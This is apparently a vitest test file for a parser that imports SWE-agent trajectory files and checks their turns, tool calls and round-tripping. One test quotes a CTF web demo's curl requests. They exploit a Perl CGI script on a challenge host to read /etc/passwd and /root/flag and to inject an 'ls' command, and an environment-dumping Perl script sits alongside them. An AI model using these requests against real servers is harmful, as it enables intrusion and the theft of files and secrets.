import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { callCount, type Transcript } from '../model/transcript';
import { foreignHeads } from './fixture-heads.test-util';
import { importSource } from './index';
import { expectRoundTrip } from './roundtrip.test-util';
import { sourceFromBytes, sourceFromText } from './source';
import { parseRawAction, parseSweAgent, sweAgentImporter } from './swe-agent';

const CORPUS = resolve(__dirname, '../../corpus/real/swe-agent');
const bytesOf = (file: string) => new Uint8Array(readFileSync(`${CORPUS}/${file}`));
const read = (file: string) => parseSweAgent(sourceFromBytes(file.split('/').pop()!, bytesOf(file)));
const calls = (t: Transcript) => t.turns.flatMap((x) => x.calls);

const TD = 'tests/test_data/trajectories';
const DEMO = 'trajectories/demonstrations';
const MM = 'marshmallow-code__marshmallow-1867.traj';
const FC_TEST = `${TD}/gpt4__swe-agent-test-repo__default_from_url__t-0.00__p-0.95__c-3.00__install-1/6e44b9__sweagenttestrepo-1c2844.traj`;
const PYDICOM = `${TD}/gpt4__swe-bench-dev-easy_first_only__default__t-0.00__p-0.95__c-3.00__install-1/pydicom__pydicom-1458.traj`;
const I_GOT_ID = `${DEMO}/ctf/web/i_got_id_demo.traj`;
const FC_SIMPLE = `${DEMO}/function_calling_simple.traj`;
const FC_REPLACE = `${DEMO}/replay__marshmallow-code__marshmallow-1867__function_calling_replace__install-1/${MM}`;

// Every .traj of the corpus: [path, title, turns, calls]. One transcript each.
const CORPUS_FILES: [string, string, number, number][] = [
  [FC_TEST, '6e44b9__sweagenttestrepo-1c2844', 5, 5],
  [
    `${TD}/gpt4__swe-agent__test-repo__default_from_url__t-0.00__p-0.95__c-3.00__install-1/swe-agent__test-repo-i1.traj`,
    'swe-agent__test-repo-i1',
    5,
    5,
  ],
  [PYDICOM, 'pydicom__pydicom-1458', 12, 12],
  [`${DEMO}/ctf/crypto/BabyEncryption.traj`, 'BabyEncryption', 16, 16],
  [`${DEMO}/ctf/crypto/BabyTimeCapsule.traj`, 'BabyTimeCapsule', 9, 9],
  [`${DEMO}/ctf/crypto/eps.traj`, 'eps', 14, 14],
  [`${DEMO}/ctf/crypto/katy.traj`, 'katy', 18, 18],
  [`${DEMO}/ctf/forensics/flash.traj`, 'flash', 4, 4],
  [`${DEMO}/ctf/misc/networking_1.traj`, 'networking_1', 4, 4],
  [`${DEMO}/ctf/pwn/warmup.traj`, 'warmup', 7, 7],
  [`${DEMO}/ctf/rev/rock.traj`, 'rock', 12, 12],
  [I_GOT_ID, 'i_got_id_demo', 21, 21],
  [FC_SIMPLE, 'function_calling_simple', 5, 5],
  [
    `${DEMO}/human_thought__swe-bench-HumanEvalFix-python__lcb__t-0.00__p-0.95__c-4.00__install-0/humanevalfix-python-0.traj`,
    'humanevalfix-python-0',
    5,
    5,
  ],
  [
    `${DEMO}/replay__marshmallow-code__marshmallow-1867__default__t-0.20__p-0.95__c-2.00__install-1___install_from_source/${MM}`,
    'marshmallow-code__marshmallow-1867',
    14,
    14,
  ],
  [
    `${DEMO}/replay__marshmallow-code__marshmallow-1867__default_sys-env_cursors_window100__t-0.20__p-0.95__c-2.00__install-1/${MM}`,
    'marshmallow-code__marshmallow-1867',
    12,
    12,
  ],
  [
    `${DEMO}/replay__marshmallow-code__marshmallow-1867__default_sys-env_window100__t-0.20__p-0.95__c-2.00__install-1/${MM}`,
    'marshmallow-code__marshmallow-1867',
    11,
    11,
  ],
  [
    `${DEMO}/replay__marshmallow-code__marshmallow-1867__function_calling__install-1/${MM}`,
    'marshmallow-code__marshmallow-1867',
    11,
    11,
  ],
  [FC_REPLACE, 'marshmallow-code__marshmallow-1867', 11, 11],
  [
    `${DEMO}/replay__marshmallow-code__marshmallow-1867__function_calling_replace_from_source/${MM}`,
    'marshmallow-code__marshmallow-1867',
    13,
    13,
  ],
  [
    `${DEMO}/replay__marshmallow-code__marshmallow-1867__xml_sys-env_cursors_window100__t-0.20__p-0.95__c-2.00__install-1/${MM}`,
    'marshmallow-code__marshmallow-1867',
    12,
    12,
  ],
  [
    `${DEMO}/replay__marshmallow-code__marshmallow-1867__xml_sys-env_window100__t-0.20__p-0.95__c-2.00__install-1/${MM}`,
    'marshmallow-code__marshmallow-1867',
    11,
    11,
  ],
];

describe('swe-agent importer: every corpus file', () => {
  it('lists all 22 corpus files', () => expect(CORPUS_FILES).toHaveLength(22));

  it.each(CORPUS_FILES)('%s', async (file, title, turns, nCalls) => {
    const { transcripts, warnings } = await read(file);
    expect(warnings).toEqual([]);
    expect(transcripts).toHaveLength(1);
    const [t] = transcripts;
    expect([t.format, t.title, t.turns.length, callCount(t)]).toEqual(['swe-agent', title, turns, nCalls]);
    // The system prompt and the task come before turn 1.
    expect(t.turns[0].before?.[0].role).toBe('system');
    await expectRoundTrip(t);
  });
});

describe('swe-agent importer: v0.x raw actions', () => {
  it('i_got_id_demo.traj: the near-identical curl retries of turns 12-19 keep their tool and args', async () => {
    const [t] = (await read(I_GOT_ID)).transcripts;
    expect(t.turns.slice(11, 19).map((x) => x.calls[0].name)).toEqual(Array(8).fill('curl'));
    const prefix = '-X POST -F "file=ARGV" -F "file=@printenv.pl"  http://web.chal.csaw.io:8000/cgi-bin/file.pl?';
    expect(t.turns.slice(12, 19).map((x) => (x.calls[0].args as { args: string }).args.replace(prefix, ''))).toEqual([
      'file.pl',
      '/etc/passwd',
      'forms.pl',
      'hello.pl',
      '-X POST -F "file=ARGV" -F "file=@printenv.pl"  "http://web.chal.csaw.io:8000/cgi-bin/file.pl?ls%20%2e|"',
      'flag',
      '/root/flag',
    ]);
    expect(t.turns[11].calls[0]).toMatchObject({
      index: 12,
      name: 'curl',
      args: { args: '-X POST -F "file=@printenv.pl" -F "file=5" http://web.chal.csaw.io:8000/cgi-bin/file.pl' },
      result: { isError: false },
    });
    expect(t.turns[18].calls[0].args).toEqual({ args: `${prefix}/root/flag` });
    expect(t.turns[18].calls[0].result!.content.endsWith('</body></html>///PROCESS-DONE:0:PROCESS-DONE///')).toBe(true);
    expect(t.turns[20].calls[0]).toMatchObject({
      name: 'submit',
      args: { args: 'FLAG{p3rl_6_iz_EVEN_BETTER!!1}' },
      result: { content: '\nFLAG{p3rl_6_iz_EVEN_BETTER!!1}\n' },
    });
    expect(t.extra).toEqual({
      exitStatus: 'submitted',
      modelStats: { total_cost: 0, instance_cost: 0, tokens_sent: 0, tokens_received: 0, api_calls: 0 },
    });
  });

  it('a multi-line edit keeps its body verbatim', async () => {
    const [t] = (await read(I_GOT_ID)).transcripts;
    expect(t.turns[8].calls[0]).toMatchObject({
      name: 'edit',
      args: {
        args: '1:1',
        body: '#!/usr/bin/perl\nprint "Content-type: text/html\\n\\n";\nforeach $key (sort(keys %ENV)) {\n    print "$key = $ENV{$key}<br>\\n";\n}\nend_of_edit',
      },
    });
    const [p] = (await read(PYDICOM)).transcripts;
    const edit = p.turns[1].calls[0];
    expect(edit.name).toBe('edit');
    expect((edit.args as { args: string }).args).toBe('1:1');
    expect(
      (edit.args as { body: string }).body.startsWith(
        'import numpy as np\nfrom pydicom.dataset import Dataset, FileMetaDataset\n',
      ),
    ).toBe(true);
    expect(edit.result!.content.startsWith('[File: /pydicom__pydicom/reproduce_bug.py (18 lines total)]')).toBe(true);
  });

  it('parseRawAction: first token is the tool, the rest of the line its args', () => {
    expect(parseRawAction('find_file missing_colon.py\n')).toEqual({
      name: 'find_file',
      args: { args: 'missing_colon.py' },
    });
    expect(parseRawAction('submit')).toEqual({ name: 'submit', args: { args: '' } });
    expect(parseRawAction('edit 3:3\n    x = 1\nend_of_edit\n')).toEqual({
      name: 'edit',
      args: { args: '3:3', body: '    x = 1\nend_of_edit' },
    });
    expect(parseRawAction('  \n')).toBeNull();
  });
});

describe('linear-time parsing of .traj actions', () => {
  it('trims a 1 MB whitespace run inside an action in well under a second', () => {
    const t0 = performance.now();
    expect(parseRawAction('x\n' + ' '.repeat(1_000_000) + 'y\n' + '\t'.repeat(1_000_000))).toEqual({
      name: 'x',
      args: { args: '', body: ' '.repeat(1_000_000) + 'y' },
    });
    expect(performance.now() - t0).toBeLessThan(1000);
  });

  it('keeps a carriage return inside the first line (it used to throw a TypeError)', () => {
    expect(parseRawAction('grep a b\rc')).toEqual({ name: 'grep', args: { args: 'a b\rc' } });
  });

  it('matches 20,000 steps to 20,000 history calls, every one a miss but the last, in linear time', async () => {
    const n = 20_000;
    const call = (name: string) => ({
      role: 'assistant',
      content: '',
      tool_calls: [{ id: name, function: { name, arguments: '{}' } }],
    });
    const doc = {
      trajectory: Array.from({ length: n }, (_, i) => ({ action: i < n - 1 ? `miss${i}` : 'hit', observation: 'ok' })),
      history: [...Array.from({ length: n - 1 }, () => call('other')), call('hit')],
    };
    const t0 = performance.now();
    const r = await parseSweAgent(sourceFromText('big.traj', JSON.stringify(doc)));
    expect(performance.now() - t0).toBeLessThan(3000);
    const turns = r.transcripts[0].turns;
    expect(turns.map((t) => t.calls[0].name).slice(-2)).toEqual(['miss19998', 'hit']);
    expect(turns[n - 1].calls[0].id).toBe('hit');
  });
});

describe('swe-agent importer: 1.x function calling', () => {
  it('6e44b9: steps take the structured tool call from history; the unrecorded submit falls back to the raw string', async () => {
    const [t] = (await read(FC_TEST)).transcripts;
    expect(calls(t).map((c) => [c.name, c.args])).toEqual([
      ['find_file', { file_name: 'missing_colon.py' }],
      ['open', { path: '/SWE-agent__test-repo/tests/missing_colon.py' }],
      [
        'edit',
        {
          search: 'def division(a: float, b: float) -> float',
          replace: 'def division(a: float, b: float) -> float:',
          'replace-all': false,
        },
      ],
      ['bash', { command: 'python3 /SWE-agent__test-repo/tests/missing_colon.py' }],
      ['submit', { args: '' }],
    ]);
    expect(calls(t)[0]).toMatchObject({
      id: 'call_fJuazlMUN5fQDQ73G6XSpYpx',
      result: {
        content:
          'Found 1 matches for "missing_colon.py" in /SWE-agent__test-repo:\r\n/SWE-agent__test-repo/tests/missing_colon.py',
        isError: false,
      },
      extra: { executionTime: 0.2814128329991945 },
    });
    expect(calls(t)[3].result).toEqual({ content: '8.2', isError: false });
    expect(t.extra).toEqual({
      exitStatus: 'submitted',
      modelStats: { instance_cost: 0.019520000000000006, tokens_sent: 7141, tokens_received: 243, api_calls: 5 },
    });
  });

  it('function_calling_simple.traj (history only): tool messages answer by tool_call_ids', async () => {
    const [t] = (await read(FC_SIMPLE)).transcripts;
    expect(t.turns[2].text.startsWith('The issue is indeed caused by a missing colon')).toBe(true);
    expect(t.turns[2].calls[0]).toMatchObject({
      id: 'call_hIiDKXAXZl4qMHV6RRXvil4u',
      name: 'edit',
      args: {
        search: 'def division(a: float, b: float) -> float',
        replace: 'def division(a: float, b: float) -> float:',
      },
      result: { isError: false },
    });
    expect(t.turns[2].calls[0].result!.content.startsWith('Text replaced. Please review the changes')).toBe(true);
    expect(calls(t).map((c) => c.name)).toEqual(['find_file', 'open', 'edit', 'bash', 'submit']);
    expect(t.extra).toBeUndefined();
  });

  it('replayed runs reuse tool call ids without a warning: results come from the steps', async () => {
    const { transcripts, warnings } = await read(FC_REPLACE);
    expect(warnings).toEqual([]);
    const [t] = transcripts;
    expect(
      t.turns[6].calls[0].result!.content.startsWith('Your proposed edit has introduced new syntax error(s).'),
    ).toBe(true);
    expect(t.turns[7].calls[0]).toMatchObject({
      name: 'edit',
      args: { search: 'return int(value.total_seconds() / base_unit.total_seconds())' },
    });
    expect(t.turns[7].calls[0].result!.content.startsWith('Text replaced.')).toBe(true);
  });
});

describe('swe-agent importer: sniffing', () => {
  it('claims .traj by name, and by content without the name', async () => {
    expect(sweAgentImporter.matchesName('run.traj')).toBe(true);
    expect(sweAgentImporter.matchesName('run.json')).toBe(false);
    for (const [file] of CORPUS_FILES) {
      const bytes = bytesOf(file);
      expect(
        sweAgentImporter.sniff(new TextDecoder().decode(bytes.subarray(0, 65536)), 'renamed.json'),
        file,
      ).toBeNull();
      expect((await importSource(sourceFromBytes('renamed.json', bytes))).format, file).toBe('swe-agent');
    }
  });

  it("claims no other format's file by content", () => {
    for (const h of foreignHeads('swe-agent').filter((x) => !x.label.startsWith('corpus/swe-agent/')))
      expect(sweAgentImporter.sniff(h.head, h.name), h.label).not.toBeNull();
  });
});
